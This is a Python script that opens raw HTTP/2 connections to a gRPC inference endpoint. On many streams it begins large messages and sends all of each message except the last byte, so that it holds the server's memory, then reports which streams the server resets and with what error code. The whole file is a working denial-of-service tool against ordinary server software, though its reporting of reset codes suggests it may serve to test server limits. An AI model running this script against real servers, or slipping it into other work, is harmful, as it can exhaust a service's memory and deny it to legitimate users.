"""Holds the memory of a server by messages of gRPC that do not end.

usage: unfinished-messages.py HOST:PORT STREAMS BYTES

Begins a message of BYTES on each of STREAMS, and sends all of it but the last byte, as far as the server lets it.
Reports the streams that the server has ended, and why: HTTP/2's code ENHANCE_YOUR_CALM is 11.
"""

import select
import socket
import struct
import sys

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
ACK, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
FRAME = 16384


class Connection:
    def __init__(self, target, streams, size):
        host, port = target.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.initial = 65535
        self.windows = {0: self.initial}
        self.left = {}
        self.ended = {}
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        self.send(SETTINGS, 0, 0, b"")
        for stream in range(1, 2 * streams, 2):
            self.begin(stream, size)

    def send(self, kind, flags, stream, payload):
        self.socket.sendall(struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload)

    def send_data(self, stream, payload):
        self.send(DATA, 0, stream, payload)
        self.windows[stream] -= len(payload)
        self.windows[0] -= len(payload)

    def begin(self, stream, size):
        fields = {":method": "POST", ":scheme": "http", ":path": "/inference.GRPCInferenceService/ModelInfer",
                  ":authority": "test", "content-type": "application/grpc", "te": "trailers"}
        # A field whose name and value are literal begins with a byte of zero.
        block = b""
        for field in fields.items():
            block += b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in field)
        self.send(HEADERS, END_HEADERS, stream, block)
        self.windows[stream] = self.initial
        self.left[stream] = size - 1
        self.send_data(stream, struct.pack(">BI", 0, size))

    def receive(self, size):
        data = b""
        while len(data) < size:
            part = self.socket.recv(size - len(data))
            if not part:
                raise EOFError
            data += part
        return data

    def take_frame(self):
        length, kind, flags, stream = struct.unpack(">IBBI", b"\0" + self.receive(9))
        payload = self.receive(length)
        if kind == WINDOW_UPDATE and stream in self.windows:
            self.windows[stream] += struct.unpack(">I", payload)[0]
        elif kind == PING and not flags & ACK:
            self.send(PING, ACK, 0, payload)
        elif kind == SETTINGS and not flags & ACK:
            for key, value in struct.iter_unpack(">HI", payload):
                if key == INITIAL_WINDOW_SIZE:
                    for one in self.left:
                        self.windows[one] += value - self.initial
                    self.initial = value
            self.send(SETTINGS, ACK, 0, b"")
        elif kind == RST_STREAM:
            self.left.pop(stream, None)
            self.ended.setdefault(stream, struct.unpack(">I", payload)[0])

    def send_some(self):
        """Sends one frame. Returns whether the server takes any."""
        for stream, left in self.left.items():
            size = min(left, self.windows[stream], self.windows[0], FRAME)
            if size > 0:
                self.send_data(stream, bytes(size))
                self.left[stream] -= size
                return True
        return False


def main():
    connection = Connection(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
    while any(connection.left.values()):
        is_sent = connection.send_some()
        if select.select([connection.socket], [], [], 0 if is_sent else 5)[0]:
            connection.take_frame()
        elif not is_sent:
            break
    print("ended:", len(connection.ended), "codes:", *sorted(set(connection.ended.values())))


main()
